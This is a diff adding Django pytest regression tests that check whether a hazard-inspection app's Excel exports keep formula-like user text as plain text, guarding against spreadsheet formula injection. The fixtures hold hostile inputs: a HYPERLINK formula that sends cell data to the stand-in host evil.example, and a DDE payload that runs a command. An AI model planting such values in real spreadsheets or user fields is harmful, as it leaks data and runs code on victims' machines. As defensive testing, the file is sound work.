@@ -1,0 +1,85 @@
+"""Defects found in the second security review, each pinned by the test that showed it."""
+
+import datetime
+import io
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from inspections import bulletins
+from inspections.models import Bulletin
+from inspections.stats import Scope
+from tests import factories
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+
+
+def _workbook(data: bytes):
+    # Not read-only: only a full load reports each cell's data_type ("f" for a formula).
+    return load_workbook(io.BytesIO(data))
+
+
+def _formula_like_cells(workbook) -> list:
+    return [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith("=")
+    ]
+
+
+def _download(response) -> bytes:
+    assert response.status_code == 200, response.status_code
+    return b"".join(response.streaming_content)
+
+
+# --- formula injection: user text in exported workbooks stays text -----------------------
+
+
+@pytest.mark.django_db
+def test_ledger_export_writes_formula_like_text_as_text(login, office, inspector_a, unit_of_a):
+    unit_of_a.name = FORMULA_NAME
+    unit_of_a.save()
+    factories.hazard(unit_of_a, inspector_a, description="=1+1", location="=cmd|' /C calc'!A0")
+
+    workbook = _workbook(_download(login(office).get(reverse("hazard_export"))))
+
+    cells = _formula_like_cells(workbook)
+    assert {c.value for c in cells} == {FORMULA_NAME, "=1+1", "=cmd|' /C calc'!A0"}
+    assert [c.data_type for c in cells] == ["s"] * len(cells)
+
+
+@pytest.mark.django_db
+def test_unit_export_writes_formula_like_text_as_text(login, office, unit_of_a):
+    unit_of_a.name = FORMULA_NAME
+    unit_of_a.address = "=1+1"
+    unit_of_a.save()
+
+    workbook = _workbook(_download(login(office).get(reverse("units:export"))))
+
+    cells = _formula_like_cells(workbook)
+    assert {c.value for c in cells} == {FORMULA_NAME, "=1+1"}
+    assert [c.data_type for c in cells] == ["s"] * len(cells)
+
+
+@pytest.mark.django_db
+def test_bulletin_attachment_writes_formula_like_text_as_text(inspector_a, unit_of_a):
+    today = timezone.localdate()
+    unit_of_a.name = FORMULA_NAME
+    unit_of_a.save()
+    factories.hazard(
+        unit_of_a,
+        inspector_a,
+        description="=1+1",
+        deadline=today - datetime.timedelta(days=2),
+    )
+    scope = Scope(start=today - datetime.timedelta(days=30), end=today, today=today)
+
+    content = bulletins.attachment_xlsx(Bulletin(title="测试通报"), scope)
+
+    cells = _formula_like_cells(_workbook(content))
+    assert {c.value for c in cells} == {FORMULA_NAME, "=1+1"}
+    assert [c.data_type for c in cells] == ["s"] * len(cells)
